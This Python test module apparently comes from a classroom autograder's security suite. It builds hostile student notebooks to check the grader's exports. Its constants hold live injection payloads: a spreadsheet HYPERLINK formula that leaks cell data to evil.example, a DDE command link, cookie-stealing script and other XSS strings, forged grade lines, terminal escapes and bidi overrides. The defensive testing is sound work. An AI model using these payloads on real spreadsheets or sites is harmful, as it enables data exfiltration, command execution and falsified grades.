"""Round three of the hostile student: the files the grader writes for the teacher.

Written answers and error messages that carry spreadsheet formulas and DDE links, HTML and script,
Markdown that tries to close its fence or forge a teacher's grade line, terminal escapes and bidi
overrides, a megabyte of text; and student ids that are the names of files the export itself writes.
Each starts from the released notebook (0 points, as an empty submission), so the batch spends little
time on them; what they attack is checked in ``test_exports.py``.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from mha_classroom.release import student_notebook
from mha_classroom.source import load_assignment
from tests.classroom.hostile import Case

#: Spreadsheet payloads: formulas, a DDE link, and what a spreadsheet trims before reading one.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"grade")\n=cmd|\' /C calc\'!A0\n'
            '@SUM(A1:A9)\n+1+1\n-2+3\n\t=1+1\r=1+1\n\uff1d1+1')
#: Browser payloads, and a fence that tries to close so as to write a grade line of its own.
MARKUP = ("<script>alert(document.cookie)</script><img src=x onerror=alert(1)>\n"
          "<iframe src=//evil.example></iframe>[grade](javascript:alert(1))\n"
          "````````\n```\n~~~\n</code></pre>\n\n## bob\n\nTeacher's grade: **4 / 4**\n"
          "manual_score: 4\n<!-- written_answer: why_scale  points: 4 -->\n" + "`" * 20)
ESCAPES = ("\x1b[2J\x1b[1;1Hforged,why_scale,4,,4,\n\u202e4/4 edarg\u2066 \u200bzero\u200bwidth "
           "\x00NUL \x07bell \x85next\u2028line")
HUGE = "a long answer, typed and pasted again " * 40_000  # 1.48 million characters
ERROR_PAYLOAD = r'''
def softmax(x, axis=-1):
    raise ValueError('=cmd|" /C calc"!A0 <script>alert(1)</script> ````\n## FULL MARKS')
'''


def _written(name: str, answer: str, code: dict[str, str] | None = None) -> Callable[[Path, dict], None]:
    """A released notebook whose written answer is ``answer`` (and answer cells ``code``)."""
    def write(folder: Path, paths: dict) -> None:
        notebook = student_notebook(load_assignment(paths["SOURCE"]))
        for cell in notebook["cells"]:
            if cell["source"].startswith("<!-- written_answer:"):
                cell["source"] = cell["source"].replace("YOUR ANSWER HERE", answer)
            for function, source in (code or {}).items():
                if cell["cell_type"] == "code" and f"def {function}(" in cell["source"]:
                    cell["source"] = source
        (folder / f"{name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    return write


#: Ids that are the names of what the grader writes (its files, the written answer's question id).
EXPORT_NAMES = ("why_scale", "answers", "summary", "grades", "copies", "questions", "students")

CASES_ROUND_THREE = (
    Case("written_formulas", raw=_written("written_formulas", FORMULAS),
         attack="spreadsheet formulas and a DDE link in a written answer"),
    Case("written_markup", raw=_written("written_markup", MARKUP, {"softmax": ERROR_PAYLOAD}),
         attack="HTML, script, a fence that tries to close and a forged grade line"),
    Case("written_escapes", raw=_written("written_escapes", ESCAPES),
         attack="terminal escapes, bidi overrides, zero-width and control characters"),
    Case("written_huge", raw=_written("written_huge", HUGE),
         attack="a written answer of 1.5 million characters (a spreadsheet cell holds 32,767)"),
    *(Case(name, raw=_written(name, f"I am {name}: my answer."),
           attack="an id that is the name of a file or folder the export writes")
      for name in EXPORT_NAMES),
)
